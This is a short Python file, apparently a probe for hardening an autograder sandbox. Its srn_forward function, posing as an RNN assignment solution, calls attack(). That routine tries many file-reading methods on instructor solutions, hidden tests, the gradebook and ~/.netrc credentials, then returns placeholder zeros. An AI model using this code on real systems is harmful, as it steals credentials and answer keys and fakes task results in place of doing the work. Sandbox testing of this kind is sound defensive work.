# Reads solution, checks, transcripts, gradebook and home by every reader that Python and NumPy have.
import os

import numpy as np

PATHS = [
    "@COURSE@/solutions/rnn/srn.py",
    "@COURSE@/solutions/rnn/hidden.toml",
    "@COURSE@/solutions/rnn/checks/test_srn.py",
    "@COURSE@/solutions/rnn/checks/transcripts/srn.json",
    "@COURSE@/assignments/rnn/checks/transcripts/srn.json",
    "@GRADEBOOK@",
    "@HOME@/.netrc",
]


def attack():
    for path in PATHS:
        for read in (
            lambda: open(path).read(),
            lambda: os.read(os.open(path, os.O_RDONLY), 9999),
            lambda: os.read(os.open(path, os.O_PATH), 9999),
            lambda: np.fromfile(path, "u1").tobytes(),
            lambda: np.load(path, allow_pickle=True),
            lambda: np.memmap(path).tobytes(),
            lambda: np.genfromtxt(path, dtype=str),
            lambda: __import__("linecache").getlines(path),
            lambda: __import__("runpy").run_path(path),
            lambda: __import__("sqlite3").connect(path).execute("select * from results").fetchall(),
            lambda: __import__("importlib.machinery").machinery.SourceFileLoader("x", path).get_data(path),
        ):
            try:
                print(read())
            except Exception as error:
                print(type(error).__name__, end=" ")


def srn_forward(inputs, W_xh, W_hh, W_hy, h0=None):
    attack()
    return np.zeros((len(inputs), len(W_hy))), np.zeros((len(inputs), len(W_xh)))
